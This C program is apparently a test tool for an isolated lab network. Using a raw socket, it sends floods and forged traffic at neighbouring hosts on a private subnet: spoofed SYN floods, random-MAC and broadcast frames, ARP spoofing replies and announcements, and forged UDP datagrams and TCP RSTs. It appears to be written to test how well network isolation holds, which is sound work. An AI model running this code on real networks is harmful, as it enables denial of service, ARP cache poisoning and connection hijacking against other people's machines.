/* hostile flood|pretend SECONDS: what a program with CAP_NET_RAW can do to its neighbours, by eth0
 * and as fast as it can, on the LAN of programs-5-hostile.sh: web 10.95.0.10, other .11, client .1,
 * server .2, their MAC addresses 02:00:00:00:95:10 and so on; this host is .66.
 *
 * flood: in turn datagrams to closed ports of each, frames for nobody from a MAC address drawn anew
 * each time, broadcasts of no known type, SYNs to web from addresses that are nobody's, and ARP
 * requests from such. pretend: in turn ARP replies, requests and announcements by which each host
 * would be here, frames from the MAC address of each, datagrams and RSTs from the IP address of
 * each, half of them behind a tag of VLAN 0. Says how many frames were sent. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define FRAME 60

static const uint8_t hosts[] = {0x10, 0x11, 0x01, 0x02}, ip_of[] = {10, 11, 1, 2};
static const uint8_t own[6] = {2, 0, 0, 0, 0x95, 0x66},
                     everybody[6] = {255, 255, 255, 255, 255, 255};
static uint64_t state = 0x9e3779b97f4a7c15u;

static uint32_t draw(void)
{
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return (uint32_t)(state >> 32);
}

static void host_mac(uint8_t *at, unsigned host)
{
    const uint8_t mac[6] = {2, 0, 0, 0, 0x95, hosts[host]};
    memcpy(at, mac, 6);
}

static void drawn_mac(uint8_t *at)
{
    uint32_t a = draw();
    at[0] = 2;
    at[1] = 0x66;
    memcpy(at + 2, &a, 4);
}

/* An Ethernet header, with a tag if `tagged`; where what follows begins. */
static uint8_t *ether(uint8_t *f, uint16_t type, int tagged)
{
    uint8_t *at = f + 12;
    if (tagged) {
        at[0] = 0x81;
        at += 4;
    }
    at[0] = (uint8_t)(type >> 8);
    at[1] = (uint8_t)type;
    return at + 2;
}

static void ipv4(uint8_t *p, uint8_t protocol, uint8_t from, uint8_t to, uint16_t bytes)
{
    const uint8_t head[20] = {
        0x45, 0, 0, (uint8_t)(20 + bytes), 0, 0, 0x40, 0, 64, protocol, 0, 0, 10, 95, 0, from, 10,
        95,   0, to};
    uint32_t sum = 0;
    memcpy(p, head, 20);
    for (unsigned i = 0; i < 20; i += 2) {
        sum += (uint32_t)p[i] << 8 | p[i + 1];
    }
    sum = (sum & 0xffff) + (sum >> 16);
    sum = ~(sum + (sum >> 16));
    p[10] = (uint8_t)(sum >> 8);
    p[11] = (uint8_t)sum;
}

static void udp(uint8_t *p, uint8_t from, uint8_t to)
{
    const uint8_t head[8] = {0x75, 0x30, (uint8_t)draw(), 0x11, 0, 18, 0, 0}; /* no checksum */
    ipv4(p, 17, from, to, 18);
    memcpy(p + 20, head, 8);
}

/* Its checksum is finished by nobody: to a kernel it is one more wrong segment, web checks it. */
static void tcp(uint8_t *p, uint8_t from, uint8_t to, uint8_t flags)
{
    uint32_t sum = 0, seq = draw();
    uint8_t head[20] = {(uint8_t)draw(), 0x39, 0,  80, 0, 0, 0, 0, 0, 0, 0, 0, 0x50,
                        flags,           255,  255};
    memcpy(head + 4, &seq, 4);
    ipv4(p, 6, from, to, 20);
    for (unsigned i = 0; i < 20; i += 2) {
        sum += (uint32_t)head[i] << 8 | head[i + 1];
    }
    for (unsigned i = 12; i < 20; i += 2) {
        sum += (uint32_t)p[i] << 8 | p[i + 1];
    }
    sum += 6 + 20;
    sum = (sum & 0xffff) + (sum >> 16);
    sum = ~(sum + (sum >> 16));
    head[16] = (uint8_t)(sum >> 8);
    head[17] = (uint8_t)sum;
    memcpy(p + 20, head, 20);
}

static void arp(uint8_t *p, uint8_t operation, const uint8_t *mac, uint8_t from, uint8_t to)
{
    const uint8_t head[8] = {0, 1, 8, 0, 6, 4, 0, operation}, net[3] = {10, 95, 0};
    memcpy(p, head, 8);
    memcpy(p + 8, mac, 6);
    memcpy(p + 14, net, 3);
    p[17] = from;
    memset(p + 18, 0, 6);
    memcpy(p + 24, net, 3);
    p[27] = to;
}

static void flood(uint8_t *f, uint64_t n)
{
    unsigned host = n / 5 % 4;
    host_mac(f, host);
    memcpy(f + 6, own, 6);
    switch (n % 5) {
    case 0:
        udp(ether(f, 0x0800, 0), 66, ip_of[host]);
        break;
    case 1:
        drawn_mac(f);
        drawn_mac(f + 6);
        ether(f, 0x88b5, 0);
        break;
    case 2:
        memcpy(f, everybody, 6);
        ether(f, 0x88b5, 0);
        break;
    case 3:
        host_mac(f, 0);
        tcp(ether(f, 0x0800, 0), (uint8_t)(128 + draw() % 100), 10, 2);
        break;
    default:
        memcpy(f, everybody, 6);
        drawn_mac(f + 6);
        arp(ether(f, 0x0806, 0), 1, f + 6, (uint8_t)(128 + draw() % 100), ip_of[host]);
    }
}

static void pretend(uint8_t *f, uint64_t n)
{
    unsigned host = n / 6 % 4, victim = (host + 1 + n / 24 % 3) % 4;
    int tagged = n / 72 % 2;
    host_mac(f, victim);
    memcpy(f + 6, own, 6);
    switch (n % 6) {
    case 0:
        arp(ether(f, 0x0806, tagged), 2, own, ip_of[host], ip_of[victim]);
        break;
    case 1:
        memcpy(f, everybody, 6);
        arp(ether(f, 0x0806, tagged), 1, own, ip_of[host], ip_of[victim]);
        break;
    case 2:
        memcpy(f, everybody, 6);
        arp(ether(f, 0x0806, tagged), 1, own, ip_of[host], ip_of[host]);
        break;
    case 3:
        drawn_mac(f);
        host_mac(f + 6, host);
        ether(f, 0x88b5, tagged);
        break;
    case 4:
        udp(ether(f, 0x0800, tagged), ip_of[host], ip_of[victim]);
        break;
    default:
        tcp(ether(f, 0x0800, tagged), ip_of[host], ip_of[victim], 4);
    }
}

int main(int argc, char **argv)
{
    static uint8_t frame[BATCH][FRAME + 4];
    struct iovec iov[BATCH];
    struct mmsghdr message[BATCH] = {0};
    int fd = socket(AF_PACKET, SOCK_RAW, 0), on = 1;
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex("eth0")};
    if (argc != 3 || fd < 0 || bind(fd, (struct sockaddr *)&to, sizeof to) < 0) {
        perror("hostile");
        return 1;
    }
    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on);
    time_t end = time(NULL) + atoi(argv[2]);
    uint64_t made = 0, sent = 0;
    while (time(NULL) < end) {
        for (unsigned i = 0; i < BATCH; i++) {
            memset(frame[i], 0, sizeof frame[i]);
            (argv[1][0] == 'f' ? flood : pretend)(frame[i], made++);
            iov[i] = (struct iovec){frame[i], FRAME};
            message[i].msg_hdr = (struct msghdr){.msg_iov = &iov[i], .msg_iovlen = 1};
        }
        int done = sendmmsg(fd, message, BATCH, 0);
        sent += done > 0 ? (unsigned)done : 0; /* what its own interface has no room for is tried */
    }
    printf("%llu of %llu frames sent\n", (unsigned long long)sent, (unsigned long long)made);
    return 0;
}
